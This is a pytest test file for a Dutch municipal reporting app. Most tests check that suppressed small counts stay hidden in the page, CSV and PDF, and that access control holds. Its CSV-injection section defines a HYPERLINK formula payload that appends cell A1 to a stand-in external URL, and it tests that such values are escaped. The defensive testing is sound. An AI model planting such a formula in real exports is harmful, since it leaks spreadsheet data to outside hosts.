"""The pages of the municipal report: the page, its period selector, the CSV
(with no formula injected) and the PDF, what a contract manager may read, and
the page's query count.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import Municipality, User
from cases.models import AccessLogEntry, SupportCase
from cases.report_periods import (
    Period,
    offered_periods,
)
from cases.reports import (
    SMALL,
    reportable_municipalities,
)
from tests.factories import (
    OrganisationFactory,
    TeamFactory,
)

SMALL_TEXT = f"< {SMALL}"

# --- the pages -----------------------------------------------------------------------


def _numbers(text: str) -> list[str]:
    return re.findall(r"(?<![\w-])\d+(?![\w-])", text)


def test_page_shows_suppressed_cells_as_text(client, contract_manager):
    """The page shows "< 5" and "afgeschermd", a chart with a text alternative
    and a data table for each dimension; reading it writes no access-log row."""
    client.force_login(contract_manager)
    url = reverse(
        "report_municipal", args=[contract_manager.organisation.municipality_id]
    )
    response = client.get(url, {"period": "2025"})
    assert response.status_code == 200
    html = response.content.decode()
    assert "&lt; 5" in html
    assert "afgeschermd" in html
    assert html.count('role="img"') == 5
    assert html.count("<desc") == 5
    assert AccessLogEntry.objects.count() == 0
    # Closed cases are not a figure of their own: 25 − 10 would give away the
    # "not yet closed" row, were it hidden.
    assert "Afgesloten zaken" not in html
    report = response.context["report"]
    assert report.cases.value == 25
    assert "Cijfers van alle organisaties voor gemeente Utrecht" in html


def test_the_period_selector_lists_ended_periods(client, contract_manager):
    """The page offers a selector of ended months, quarters and years, with
    the shown period selected."""
    client.force_login(contract_manager)
    url = reverse(
        "report_municipal", args=[contract_manager.organisation.municipality_id]
    )
    html = client.get(url, {"period": "2025-Q1"}).content.decode()
    today = timezone.localdate()
    offered = offered_periods(today)
    for periods in offered.values():
        for period in periods:
            assert f'value="{period.key}"' in html
    assert '<option value="2025-Q1" selected>' in html
    assert f'value="{today.year}"' not in html  # this year has not ended
    assert "<optgroup" in html


def test_without_a_period_the_last_ended_year_is_shown(client, contract_manager):
    """No ``period``: the last ended year; day ranges of old links are
    ignored, so consecutive end dates cannot be compared any more."""
    client.force_login(contract_manager)
    url = reverse(
        "report_municipal", args=[contract_manager.organisation.municipality_id]
    )
    last_year = Period.whole_year(timezone.localdate().year - 1)
    for query in ({}, {"start": "2025-03-01", "end": "2025-03-05"}):
        response = client.get(url, query)
        assert response.status_code == 200
        assert response.context["report"].period == last_year


@pytest.mark.parametrize(
    ("period", "message"),
    [
        ("abc", "Onbekende periode"),
        ("2025-13", "Onbekende periode"),
        ("2025-Q5", "Onbekende periode"),
        ("2025-03-01", "Onbekende periode"),
        ("1999", "Onbekende periode"),
        ("9999", "nog niet afgelopen"),
        ("this year", "Onbekende periode"),
    ],
)
def test_a_bad_period_is_a_message_next_to_the_selector(
    client, contract_manager, period, message
):
    """An unknown, malformed or not yet ended period is a Dutch message next
    to the period selector and no figures; the CSV and the PDF are 404."""
    client.force_login(contract_manager)
    pk = contract_manager.organisation.municipality_id
    if period == "this year":
        period = str(timezone.localdate().year)
        message = "nog niet afgelopen"
    response = client.get(reverse("report_municipal", args=[pk]), {"period": period})
    assert response.status_code == 200
    assert response.context["report"] is None
    assert message in " ".join(response.context["form"].errors["period"])
    assert message in response.content.decode()
    assert "Kerncijfers" not in response.content.decode()
    for name in ("report_municipal_csv", "report_municipal_pdf"):
        assert (
            client.get(reverse(name, args=[pk]), {"period": period}).status_code == 404
        )


def test_this_month_and_quarter_are_not_yet_ended(client, contract_manager):
    """The running month and quarter are refused like the running year."""
    client.force_login(contract_manager)
    url = reverse(
        "report_municipal", args=[contract_manager.organisation.municipality_id]
    )
    today = timezone.localdate()
    for key in (
        Period.month(today.year, today.month).key,
        Period.quarter(today.year, (today.month - 1) // 3 + 1).key,
    ):
        response = client.get(url, {"period": key})
        assert response.context["report"] is None
        assert "nog niet afgelopen" in response.content.decode()


def test_csv_contains_no_suppressed_value(client, contract_manager):
    """The CSV has the same cells as the page; no hidden number is in it."""
    client.force_login(contract_manager)
    url = reverse(
        "report_municipal_csv", args=[contract_manager.organisation.municipality_id]
    )
    response = client.get(url, {"period": "2025"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    rows = [line.split(";") for line in text.splitlines()]
    by_label = {
        row[1]: row[2] for row in rows if len(row) == 3 and row[0] == "Soort zaak"
    }
    assert by_label["Vraag"] == "6"
    assert by_label["Probleem"] == "afgeschermd"
    assert by_label["Bemiddeling"] == SMALL_TEXT
    assert by_label["Totaal"] == "25"
    outcome = {row[1]: row[2] for row in rows if len(row) == 3 and row[0] == "Uitkomst"}
    assert outcome["Niet opgelost"] == SMALL_TEXT
    figures = {row[1]: row[2] for row in rows if len(row) == 3}
    assert figures["Mediane doorlooptijd (afgesloten zaken)"] == "11 dagen"
    assert figures["2025"] == "2025"  # the period
    assert (
        figures["Cijfers van alle organisaties voor gemeente Utrecht"] == ""
    )  # the scope
    # The only numbers in the rows of the kind table are the shown ones.
    kind_numbers = {
        v for row in rows if row[0] == "Soort zaak" for v in _numbers(row[2])
    }
    assert kind_numbers == {"6", "7", "5", "25"}
    assert "2" not in kind_numbers


def test_pdf_contains_no_suppressed_value(client, contract_manager):
    """The PDF is made from the same shown cells; its text has "< 5", says
    whose figures it holds, and has no hidden number for a hidden cell."""
    pypdf = pytest.importorskip("pypdf")

    client.force_login(contract_manager)
    url = reverse(
        "report_municipal_pdf", args=[contract_manager.organisation.municipality_id]
    )
    response = client.get(url, {"period": "2025"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    pdf = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    text = "".join(
        page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages
    )
    assert "< 5" in text
    assert "afgeschermd" in text
    assert "Bemiddeling: < 5" in text or "Bemiddeling < 5" in text
    assert "alle organisaties" in text


def test_pdf_is_a_pdf(client, contract_manager):
    """The PDF download is a PDF document named after the municipality and
    the period."""
    client.force_login(contract_manager)
    url = reverse(
        "report_municipal_pdf", args=[contract_manager.organisation.municipality_id]
    )
    response = client.get(url, {"period": "2025-Q1"})
    assert response.content.startswith(b"%PDF")
    assert "rapportage-GM0344-2025-Q1.pdf" in response["Content-Disposition"]


def test_contract_manager_cannot_read_another_municipality(client, contract_manager):
    """A contract manager reads only their own municipality: another one is 404
    on the page, the CSV and the PDF, as if it did not exist."""
    zwolle = Municipality.objects.get(cbs_code="GM0193")
    client.force_login(contract_manager)
    for name in ("report_municipal", "report_municipal_csv", "report_municipal_pdf"):
        assert (
            client.get(reverse(name, args=[zwolle.pk]), {"period": "2025"}).status_code
            == 404
        )
    assert list(reportable_municipalities(contract_manager)) == [
        contract_manager.organisation.municipality
    ]


def test_contract_manager_of_no_municipality_reads_nothing(db):
    """A contract manager not working for a municipality reads no report."""
    user = User.objects.create_user(
        "cm2",
        role=User.Role.CONTRACT_MANAGER,
        organisation=OrganisationFactory(akj=True),
    )
    assert not reportable_municipalities(user).exists()


def test_report_page_query_count(
    client, contract_manager, django_assert_max_num_queries
):
    """The page takes a bounded number of queries, whatever the number of
    cases: when it counts the figures (and stores them), and fewer when it
    reads the stored ones."""
    client.force_login(contract_manager)
    url = reverse(
        "report_municipal", args=[contract_manager.organisation.municipality_id]
    )
    with django_assert_max_num_queries(12):
        assert client.get(url, {"period": "2025"}).status_code == 200
    with django_assert_max_num_queries(8):
        assert client.get(url, {"period": "2025"}).status_code == 200


def test_theme_can_be_chosen_when_opening_a_case(db):
    """The case-open form offers the themes; the service stores the one chosen."""
    from cases.forms.clients import CaseOpenForm

    akj = OrganisationFactory(akj=True)
    user = User.objects.create_user(
        "vpx",
        role=User.Role.AKJ_CONFIDANT,
        organisation=akj,
        team=TeamFactory(organisation=akj),
    )
    form = CaseOpenForm(user=user)
    values = [value for value, _label in form.fields["theme"].choices]
    assert values == ["", *SupportCase.Theme.values]


# --- CSV injection ---------------------------------------------------------------


FORMULA = '=HYPERLINK("https://example.org/x?"&A1,"Klik")'


def test_a_formula_in_a_name_is_written_as_text(client, contract_manager):
    """The attack: a municipality named like a spreadsheet formula is exported
    with a quote in front, so no spreadsheet runs it; every other cell that
    starts with = + - @, a tab or a carriage return likewise."""
    municipality = contract_manager.organisation.municipality
    municipality.name = FORMULA
    municipality.save()
    client.force_login(contract_manager)
    response = client.get(
        reverse("report_municipal_csv", args=[municipality.pk]), {"period": "2025"}
    )
    rows = list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )
    assert ["Gemeente", "'" + FORMULA, ""] in rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6", "'+31 6"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Utrecht", "Utrecht"),
        ("a=b", "a=b"),
        (7, 7),
        ("", ""),
    ],
)
def test_safe_cell(value, written):
    from cases.csv_export import safe_cell

    assert safe_cell(value) == written


def test_every_csv_writer_goes_through_the_one_helper():
    """No module but ``cases.csv_export`` makes a ``csv.writer``."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for folder in ("accounts", "cases", "config", "retention", "roles")
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
        and path.relative_to(root).as_posix() != "cases/csv_export.py"
    ]
    assert offenders == []
